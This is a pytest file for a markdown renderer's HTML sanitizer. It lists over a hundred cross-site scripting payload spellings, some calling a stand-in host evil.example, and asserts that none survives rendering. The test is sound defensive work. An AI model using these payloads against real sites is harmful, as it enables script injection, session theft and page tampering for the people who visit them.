"""Nothing in a body runs, fetches from elsewhere or dresses itself, however it is spelled."""

import re
from html.parser import HTMLParser

import pytest

from goodword.content.markdown import render
from goodword.content.sanitizing import TAGS

SPELLINGS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></use></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    '<img src="x" onerror="alert(1)"//>',
    "<img/src=x/onerror=alert(1)>",
    "<img src='./x.png' onload=alert(1)>",
    "<img src=javascript:alert(1)>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<img src=x srcset='x 1x, javascript:alert(1) 2x'>",
    "<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='blob:https://x.example/1'>x</a>",
    "<a href='/\\evil.example'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/\t/evil.example'>x</a>",
    "<a href='https:\\\\evil.example'>x</a>",
    "<a onclick=alert(1) href=/x>x</a>",
    "<a onmouseover='alert(1)'>x</a>",
    "<a href=/x style='position:fixed;inset:0'>x</a>",
    "[x](javascript:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](javascript:alert(1) 'title')",
    "[x](<javascript:alert(1)>)",
    "[x](JAVASCRIPT:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](/y '\" onclick=\"alert(1)')",
    '[x](/y"onclick="alert(1))',
    "[x]\n\n[x]: javascript:alert(1)",
    "[x]: javascript:alert(1) 'y'\n\n[x][x]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](./x.png)',
    '![x](./x.png"onerror="alert(1))',
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "x {: onclick=alert(1) }",
    "## x {: onclick=alert(1) style=color:red }",
    "[x](/y){: onclick=alert(1) href=javascript:alert(1) }",
    "![x](./x.png){: onerror=alert(1) src=javascript:alert(1) }",
    "*x*{: onmouseover='alert(1)' }",
    "[^<img src=x onerror=alert(1)>]\n\n[^<img src=x onerror=alert(1)>]: note",
    "```<img src=x onerror=alert(1)>\ncode\n```",
    "`<img src=x onerror=alert(1)>`",
    "```\n<script>alert(1)</script>\n```",
    "| <img src=x onerror=alert(1)> | b |\n|--|--|\n| <script>alert(1)</script> | d |",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import '//evil.example/x.css'</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title></title><img src=x onerror=alert(1)>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    "<p/onclick=alert(1)>x</p>",
    "<x onclick=alert(1)>x</x>",
    "<b/alt='1'onmouseover=alert(1)//>x</b>",
    "\x02wzxhzdk:0\x03<img src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<a href=https://x.example\u2028onclick=alert(1)>x</a>",
    "<bdo dir=rtl onmouseover=alert(1)>x</bdo>",
]
KEPT = {"id", "class", "href", "src", "alt", "title", "lang", "dir", "tabindex", "role", "aria-label", "start"}
HREF = re.compile(r"https?://[^/\\]|mailto:|tel:|/(?![/\\])|#")


class Seen(HTMLParser):
    """Every tag and attribute, as a browser would find them."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")

    def unknown_decl(self, data: str) -> None:
        raise AssertionError(f"a declaration: {data}")


@pytest.mark.parametrize("text", SPELLINGS)
def test_nothing_runs(text: str) -> None:
    for around in ("{}", "before\n\n{}\n\nafter", "> {}", "- {}\n", "*a* {} b"):
        for tag, attributes in Seen(render(around.format(text)).html).tags:
            assert tag in TAGS
            assert attributes.keys() <= KEPT
            assert re.fullmatch(r"\./[\w.-]+", attributes.get("src", "./x.png"))
            assert HREF.match(attributes.get("href", "/"))
            assert not re.search(r"[\s\\]", attributes.get("href", ""))


def test_the_corpus_is_large_enough() -> None:
    assert len(set(SPELLINGS)) >= 60
